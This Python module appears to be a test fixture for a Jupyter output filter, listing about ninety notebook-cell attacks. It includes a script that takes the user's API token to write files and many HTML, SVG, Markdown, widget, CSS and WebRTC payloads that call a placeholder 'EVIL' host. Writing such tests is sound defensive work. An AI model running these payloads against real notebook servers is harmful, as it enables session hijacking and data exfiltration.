"""Outputs that try to act with the person's login, or to tell another host: each as the source of a cell.

In a source, ``SCRIPT`` is JavaScript that writes the file ``got-NAME.txt`` through the server's API and asks ``EVIL`` for
``/NAME/...``; ``EVIL`` is the address of another host, ``NAME`` the attack's own. ``PLAIN`` tells that the attack gets
through under plain ipykernel in the same page, so that the test of it is one.
"""

# ruff: noqa: E501 - each output is what one cell holds, on one line

from __future__ import annotations

from dataclasses import dataclass

_SCRIPT = (
    "(()=>{let d=document;try{d=top.document}catch(e){}try{const c=JSON.parse(d.getElementById('jupyter-config-data')"
    ".textContent);fetch(c.baseUrl+'api/contents/got-NAME.txt',{method:'PUT',body:JSON.stringify({type:'file',"
    "format:'text',content:'owned'}),headers:{Authorization:'token '+c.token,'Content-Type':'application/json'}})}"
    "catch(e){}try{fetch('EVIL/NAME/fetch',{mode:'no-cors'})}catch(e){}try{new Image().src='EVIL/NAME/image'}catch(e){}})()"
)

_WIDGET = """
from comm import create_comm
def model(name, view=None, module="@jupyter-widgets/controls", **state):
    view = view or name.replace("Model", "View")
    names = {"_model_module": module, "_model_module_version": "2.0.0", "_model_name": name,
             "_view_module": module, "_view_module_version": "2.0.0", "_view_name": view}
    return create_comm(target_name="jupyter.widget", data={"state": {**names, **state}, "buffer_paths": []},
                       metadata={"version": "2.1.0"})
def play(name, data, view=None, format="mp4"):
    module, view = "@jupyter-widgets/controls", view or name.replace("Model", "View")
    names = {"_model_module": module, "_model_module_version": "2.0.0", "_model_name": name,
             "_view_module": module, "_view_module_version": "2.0.0", "_view_name": view}
    state = {**names, "format": format, "autoplay": True, "controls": True, "loop": True, "width": "", "height": ""}
    return create_comm(target_name="jupyter.widget", data={"state": state, "buffer_paths": [["value"]]},
                       metadata={"version": "2.1.0"}, buffers=[data])
def PLAYLIST(where):
    return (f"#EXTM3U\\n#EXT-X-VERSION:3\\n#EXT-X-TARGETDURATION:10\\n#EXT-X-MEDIA-SEQUENCE:0\\n#EXTINF:10.0,\\n"
            f"{where}/secret.ts\\n#EXT-X-ENDLIST\\n").encode()
def show(comm):
    show_data({"application/vnd.jupyter.widget-view+json": {"version_major": 2, "version_minor": 0,
               "model_id": comm.comm_id}, "text/plain": "widget"})
"""

PRELUDE = (
    "from IPython.display import HTML, Javascript, Markdown, Latex, SVG, display, publish_display_data\n"
    "show_data = publish_display_data\n"
    "def html(text): show_data({'text/html': text, 'text/plain': 'html'})\n" + _WIDGET
)


@dataclass(frozen=True)
class Attack:
    """One output. ``click`` tells that it waits for a click, ``plain`` that it works where nothing is filtered."""

    name: str
    source: str
    plain: bool = True
    click: bool = False


def _html(name: str, text: str, *, plain: bool = True, click: bool = False) -> Attack:
    return Attack(name, f"html({text!r})", plain, click)


def _framed(name: str, script: str, *, plain: bool = True) -> Attack:
    return Attack(name, f"html({'<p>chart</p><script>' + script + '</script>'!r})", plain)


_XML = (
    'xml=\'<x:iframe xmlns:x="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;p=new RTCPeerConnection({iceServers:['
    "{urls:`stun:127.0.0.1:UDP`}]});p.createDataChannel(`x`);p.createOffer().then(o=&gt;p.setLocalDescription(o))"
    "&lt;/script&gt;\"></x:iframe>';"
)
"""A frame as XML, under a name that no list of tags has, with a script in it that calls another host."""

ATTACKS = (
    Attack("javascript", "display(Javascript(SCRIPT))"),
    Attack("javascript-odd-type", "show_data({'Application/JavaScript': SCRIPT, 'text/plain': 'x'})", plain=False),
    Attack("script", "html('<script>' + SCRIPT + '</script>')"),
    Attack("script-odd-type", "show_data({'TEXT/HTML': '<script>' + SCRIPT + '</script>'})", plain=False),
    Attack("onerror", "html('<img src=x onerror=\"' + SCRIPT + '\">')"),
    Attack("svg-onload", "html('<svg onload=\"' + SCRIPT + '\"></svg>')", plain=False),
    Attack("toggle", "html('<details open ontoggle=\"' + SCRIPT + '\"><summary>s</summary>x</details>')"),
    Attack("srcdoc", "html('<iframe srcdoc=\"<script>' + SCRIPT + '</script>\"></iframe>')"),
    Attack("frame-javascript", "html('<iframe src=\"javascript:' + SCRIPT + '\"></iframe>')"),
    _html("frame-elsewhere", "<iframe src='EVIL/NAME/frame'></iframe>"),
    _html("object", "<object data='EVIL/NAME/object'></object>"),
    _html("embed", "<embed src='EVIL/NAME/embed'>"),
    _html("remote-image", "<b>hi</b><img src='EVIL/NAME/picture.png?secret'>"),
    _html("srcset", "<img srcset='EVIL/NAME/a.png 1x'>"),
    _html("input-image", "<input type=image src='EVIL/NAME/i.png'>"),
    _html("table-background", "<table background='EVIL/NAME/t.png'><tr><td>x</td></tr></table>"),
    _html("video", "<video src='EVIL/NAME/v.mp4' poster='EVIL/NAME/p.png' autoplay></video>"),
    _html("audio", "<audio src='EVIL/NAME/a.mp3' autoplay></audio>"),
    _html("style-url", "<style>.jp-OutputArea{background:url(EVIL/NAME/bg)}</style><p>x</p>"),
    _html("style-import", "<style>@import 'EVIL/NAME/css';</style><p>x</p>"),
    _html("style-escaped", "<style>.jp-OutputArea{background:u\\72l(EVIL/NAME/bg)}</style><p>x</p>"),
    _html("style-attribute", "<div style='height:9px;background-image:url(EVIL/NAME/bg)'>x</div>"),
    _html("style-set", "<div style='height:9px;background:image-set(\"EVIL/NAME/bg\" 1x)'>x</div>"),
    _html("stylesheet", "<link rel=stylesheet href='EVIL/NAME/css'>"),
    _html("prefetch", "<link rel=prefetch href='EVIL/NAME/prefetch'><link rel=preload as=image href='EVIL/NAME/p'>"),
    _html("base", "<base href='EVIL/NAME/'><img src='picture.png'>", plain=False),
    _html("meta-refresh", "<meta http-equiv=refresh content='0;url=EVIL/NAME/meta'>", plain=False),
    _html("svg-image", "<svg><image href='EVIL/NAME/i.png'/><use href='EVIL/NAME/u.svg#a'/></svg>"),
    Attack("link-javascript", "html('<a href=\"javascript:' + SCRIPT + '\">report</a>')", plain=False, click=True),
    Attack("link-entity", "html('<a href=\"java&#9;script&colon;' + SCRIPT + '\">report</a>')", plain=False, click=True),
    Attack(
        "math-link",
        "html('<math><mtext xlink:href=\"javascript:' + SCRIPT + '\">x</mtext></math>')",
        plain=False,
        click=True,
    ),
    Attack(
        "form",
        "html('<form action=\"EVIL/NAME/form\" target=sink><input name=a value=b><button>Log in</button></form>"
        "<iframe name=sink></iframe>')",
        click=True,
    ),
    Attack(
        "form-action",
        "html('<form><button formaction=\"javascript:' + SCRIPT + '\">Go</button></form>')",
        plain=False,
        click=True,
    ),
    Attack(
        "command-linker",
        "html('<button data-commandlinker-command=\"terminal:create-new\" data-commandlinker-args=\"{}\">Next</button>')",
        click=True,
    ),
    Attack(
        "command-linker-script",
        "html('<button data-commandlinker-command=\"docmanager:new-untitled\" "
        'data-commandlinker-args=\\\'{"path":"","type":"file","ext":".got-NAME"}\\\'>Next</button>\')',
        plain=False,
        click=True,
    ),
    Attack("shadow", "html('<div><template shadowrootmode=open><img src=x onerror=\"' + SCRIPT + '\"></template></div>')", plain=False),
    Attack(
        "mutation",
        "html('<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
        "onerror=alert(1)&gt;\"><img src=x onerror=\"' + SCRIPT + '\">')",
    ),
    Attack("svg-script", "show_data({'image/svg+xml': '<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"' + SCRIPT + '\"><script>' + SCRIPT + '</script><image href=\"EVIL/NAME/i.png\"/></svg>'})", plain=False),
    Attack("markdown-script", "display(Markdown('# Title\\n\\n<script>' + SCRIPT + '</script>'))"),
    Attack("markdown-onerror", "display(Markdown('a <img src=x onerror=\"' + SCRIPT + '\"> b'))"),
    Attack("markdown-image", "display(Markdown('![plot](EVIL/NAME/plot.png)\\n\\n![a][r]\\n\\n[r]: EVIL/NAME/r.png'))"),
    Attack("markdown-link", "display(Markdown('[report](<javascript:' + SCRIPT.replace('<', '') + '>)'))", plain=False, click=True),
    Attack("latex-link", "display(Latex(r'$\\href{javascript:void(0)}{x}\\style{background:url(EVIL/NAME/s)}{y}$'))", plain=False, click=True),
    Attack("mermaid", "show_data({'text/vnd.mermaid': 'flowchart TD\\nA@{ img: \"EVIL/NAME/m.png\", label: \"x\" }'})", plain=False),
    Attack("vega-data", "show_data({'application/vnd.vegalite.v5+json': {'$schema': 'https://vega.github.io/schema/vega-lite/v5.json', 'data': {'url': 'EVIL/NAME/data.json'}, 'mark': 'bar'}})"),
    Attack("vega-image", "show_data({'application/vnd.vegalite.v5+json': {'$schema': 'https://vega.github.io/schema/vega-lite/v5.json', 'data': {'values': [{'u': 'EVIL/NAME/i.png'}]}, 'mark': {'type': 'image', 'width': 9, 'height': 9}, 'encoding': {'url': {'field': 'u'}}}})"),
    Attack("isolated", "show_data({'text/html': '<script>' + SCRIPT + '</script>'}, {'text/html': {'isolated': True}})"),
    Attack("update", "h = display(HTML('<p>calm</p>'), display_id=True); h.update(HTML('<img src=x onerror=\"' + SCRIPT + '\">'))"),
    Attack("pager", "get_ipython().payload_manager.write_payload({'source': 'page', 'data': {'text/html': '<img src=x onerror=\"' + SCRIPT + '\">', 'text/plain': 'x'}, 'start': 0})", plain=False),
    Attack("next-input", "get_ipython().set_next_input('%sentinel_trust_output scripts', replace=True)", plain=False),
    Attack("widget-html", "show(model('HTMLModel', value='<img src=x onerror=\"' + SCRIPT + '\">'))"),
    Attack("widget-image-html", "show(model('HTMLModel', value='<img src=\"EVIL/NAME/w.png\">'))"),
    Attack("widget-update", "m = model('HTMLModel', value='calm'); show(m); m.send({'method': 'update', 'state': {'value': '<img src=x onerror=\"' + SCRIPT + '\">'}, 'buffer_paths': []})"),
    Attack("widget-view", "show(model('LabelModel', 'HTMLView', value='<img src=x onerror=\"' + SCRIPT + '\">'))"),
    Attack("widget-address", "m = create_comm(target_name='jupyter.widget', data={'state': {'_model_module': '@jupyter-widgets/controls', '_model_module_version': '2.0.0', '_model_name': 'ImageModel', '_view_module': '@jupyter-widgets/controls', '_view_module_version': '2.0.0', '_view_name': 'ImageView', 'format': 'url', 'value': None}, 'buffer_paths': [['value']]}, metadata={'version': '2.1.0'}, buffers=[b'EVIL/NAME/i.png']); show(m)", plain=False),
    Attack("widget-style", "s = model('LabelStyleModel', 'StyleView', background='url(EVIL/NAME/bg)', _view_module='@jupyter-widgets/base'); show(model('LabelModel', value='x', style='IPY_MODEL_' + s.comm_id))"),
    Attack("widget-link", "h = model('HTMLModel', value='calm'); show(h); t = model('TextModel', value='<img src=x onerror=\"' + SCRIPT + '\">'); model('LinkModel', source=['IPY_MODEL_' + t.comm_id, 'value'], target=['IPY_MODEL_' + h.comm_id, 'value'])", plain=False),
    Attack("widget-output", "show(model('OutputModel', module='@jupyter-widgets/output', _model_module_version='1.0.0', _view_module_version='1.0.0', outputs=[{'output_type': 'display_data', 'data': {'text/html': '<script>' + SCRIPT + '</script>'}, 'metadata': {}}], msg_id=''))", plain=False),
    Attack("anywidget", "show(model('AnyModel', 'AnyView', module='anywidget', _esm='export default {render(){' + SCRIPT + '}}', _css='a{}'))", plain=False),
    Attack("widget-module", "show(model('EvilModel', module='EVIL/NAME/evil.js'))", plain=False),
    Attack("comm-target", "create_comm(target_name='jupyterlab-commands', data={'command': 'terminal:create-new'})", plain=False),
    Attack("user-interface-class", "html('<div class=\"jp-Dialog\" style=\"position:fixed;inset:0;z-index:99999\">Log in again</div>')", plain=False),
    _framed("inside-top", "try{top.document.title='x'}catch(e){};SCRIPT", plain=True),
    _framed("inside-location", "location='EVIL/NAME/location?secret'", plain=False),
    _framed("inside-parent", "try{parent.location='EVIL/NAME/parent'}catch(e){};try{top.location='EVIL/NAME/top'}catch(e){}", plain=False),
    _framed("inside-form", "f=document.createElement('form');f.action='EVIL/NAME/form';f.method='post';document.body.append(f);f.submit()", plain=False),
    _framed("inside-click", "a=document.createElement('a');a.href='EVIL/NAME/click';a.ping='EVIL/NAME/ping';document.body.append(a);a.click()", plain=False),
    _framed("inside-beacon", "navigator.sendBeacon('EVIL/NAME/beacon','x');try{new WebSocket('EVIL/NAME/socket'.replace('http','ws'))}catch(e){};try{new EventSource('EVIL/NAME/events')}catch(e){}"),
    _framed("inside-child", "i=document.createElement('iframe');i.srcdoc='<script>new Image().src=\"EVIL/NAME/child\";new RTCPeerConnection({iceServers:[{urls:\"stun:127.0.0.1:UDP\"}]}).createDataChannel(\"x\");p=new RTCPeerConnection({iceServers:[{urls:\"stun:127.0.0.1:UDP\"}]});p.createDataChannel(\"x\");p.createOffer().then(o=>p.setLocalDescription(o))<'+'/script>';document.body.append(i)"),
    _framed("inside-markup", "document.body.insertAdjacentHTML('beforeend','<iframe srcdoc=\"&lt;script&gt;p=new RTCPeerConnection({iceServers:[{urls:`stun:127.0.0.1:UDP`}]});p.createDataChannel(`x`);p.createOffer().then(o=&gt;p.setLocalDescription(o))&lt;/script&gt;\"></iframe>')", plain=False),
    _framed("inside-script-frame", "i=document.createElement('iframe');i.src=\"javascript:p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:UDP'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))\";document.body.append(i)", plain=False),
    Attack("playlist-widget", "v = play('VideoModel', PLAYLIST('EVIL/NAME'))\nshow(v)"),
    Attack("playlist-sound", "v = play('AudioModel', PLAYLIST('EVIL/NAME'), format='wav')\nshow(v)"),
    Attack("playlist-update", "v = play('VideoModel', b'')\nv.send(data={'method': 'update', 'state': {}, 'buffer_paths': [['value']]}, buffers=[PLAYLIST('EVIL/NAME')])\nshow(v)"),
    Attack("playlist-view", "v = play('ImageModel', PLAYLIST('EVIL/NAME'), view='VideoView')\nshow(v)"),
    Attack("playlist-text", "v = model('VideoModel', value=PLAYLIST('EVIL/NAME').decode(), format='mp4', autoplay=True, controls=True)\nshow(v)", plain=False),
    Attack("playlist-linked", "v = play('VideoModel', b'')\ni = play('ImageModel', PLAYLIST('EVIL/NAME'))\nmodel('DirectionalLinkModel', view='', source=['IPY_MODEL_' + i.comm_id, 'value'], target=['IPY_MODEL_' + v.comm_id, 'value'])\nshow(v)", plain=False),
    Attack("playlist-file", "open('NAME.mp4', 'wb').write(PLAYLIST('EVIL/NAME'))\nhtml('<video autoplay muted src=\"NAME.mp4\"></video>')"),
    Attack("playlist-data", "import base64\nhtml('<video autoplay muted src=\"data:video/mp4;base64,' + base64.b64encode(PLAYLIST('EVIL/NAME')).decode() + '\"></video>')", plain=False),
    Attack("playlist-type", "import base64\nshow_data({'video/mp4': base64.b64encode(PLAYLIST('EVIL/NAME')).decode(), 'text/plain': 'x'})", plain=False),
    _framed("inside-calls", "p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:UDP'},{urls:'turn:127.0.0.1:TCP?transport=tcp',username:'secret',credential:'c'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))", plain=False),
    _framed("inside-xml", _XML + "document.body.append(document.adoptNode(new DOMParser().parseFromString(xml,'text/xml').documentElement))", plain=False),
    _framed("inside-xml-entity", _XML + "document.body.append(document.adoptNode(new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e \"'+xml.replaceAll('&','&#38;').replaceAll('<','&#60;').replaceAll('\"','&#34;')+'\">]><a>&e;</a>','text/xml').documentElement))", plain=False),
    _framed("inside-request-document", _XML + "r=new XMLHttpRequest();r.open('GET','data:text/xml,'+encodeURIComponent(xml));try{r.responseType='document'}catch(e){};r.onload=()=>{const d=r.response&&r.response.documentElement||r.responseXML&&r.responseXML.documentElement;if(d)document.body.append(document.adoptNode(d))};r.send()", plain=False),
    _framed("inside-request-xml", _XML + "r=new XMLHttpRequest();r.open('GET',URL.createObjectURL(new Blob([xml],{type:'text/xml'})));r.onload=()=>{if(r.responseXML)document.body.append(document.adoptNode(r.responseXML.documentElement))};r.send()", plain=False),
    _framed("inside-tampered", "RegExp.prototype.test=()=>false;RegExp.prototype.exec=()=>null;String.prototype.match=()=>null;Element.prototype.matches=()=>false;Element.prototype.querySelectorAll=()=>[];Element.prototype.remove=()=>0;NodeList.prototype.item=()=>null;" + _XML + "document.body.insertAdjacentHTML('beforeend',xml.replaceAll('x:','').replaceAll(':x',''))", plain=False),
    _framed("inside-shadow", _XML + "h=document.createElement('div');s=h.attachShadow({mode:'open',clonable:true});document.body.append(h);r=new XMLHttpRequest();r.open('GET','data:text/xml,'+encodeURIComponent(xml));try{r.responseType='document'}catch(e){};r.onload=()=>{if(r.response&&r.response.documentElement)s.append(document.adoptNode(r.response.documentElement));document.body.append(h.cloneNode(true))};r.send()", plain=False),
    _framed("inside-worker", "new Worker(URL.createObjectURL(new Blob(['fetch(\"EVIL/NAME/worker\",{mode:\"no-cors\"});try{importScripts(\"EVIL/NAME/import\")}catch(e){}'])))"),
    _framed("inside-import", "import('EVIL/NAME/module.js').catch(()=>0);s=document.createElement('script');s.src='EVIL/NAME/s.js';document.head.append(s)"),
    _framed("inside-links", "for(const r of ['prefetch','preload','modulepreload','stylesheet','icon','manifest','preconnect','dns-prefetch','prerender']){const l=document.createElement('link');l.rel=r;l.as='image';l.href='EVIL/NAME/'+r;document.head.append(l)}", plain=True),
    _framed("inside-speculation", "s=document.createElement('script');s.type='speculationrules';s.textContent=JSON.stringify({prefetch:[{source:'list',urls:['EVIL/NAME/spec'],eagerness:'immediate'}]});document.head.append(s)", plain=False),
    _framed("inside-blob", "location=URL.createObjectURL(new Blob(['<script>fetch(\"EVIL/NAME/blob\",{mode:\"no-cors\"})<'+'/script>'],{type:'text/html'}))", plain=False),
    _framed("inside-write", "document.open();document.write('<img src=\"EVIL/NAME/write.png\"><iframe src=\"EVIL/NAME/wf\"></iframe>');document.close()", plain=False),
)  # fmt: skip


ALIVE = 'html(\'<p>x</p><script>top.postMessage("alive", "*")</script>\')'
"""A frame that runs, and says so to the page: those above it have had their turn."""


def source(attack: Attack, evil: str, tcp_port: int, udp_port: int) -> str:
    """Return the cell's source of an attack."""
    script = _SCRIPT.replace("NAME", attack.name).replace("EVIL", evil)
    text = attack.source.replace("NAME", attack.name).replace("EVIL", evil)
    text = text.replace("stun:127.0.0.1:UDP", f"stun:127.0.0.1:{udp_port}").replace(
        "turn:127.0.0.1:TCP", f"turn:127.0.0.1:{tcp_port}"
    )
    if "};SCRIPT<" in text:
        text = text.replace("SCRIPT<", script.replace('"', '\\"') + "<")
    return f"SCRIPT = {script!r}\n{text}"
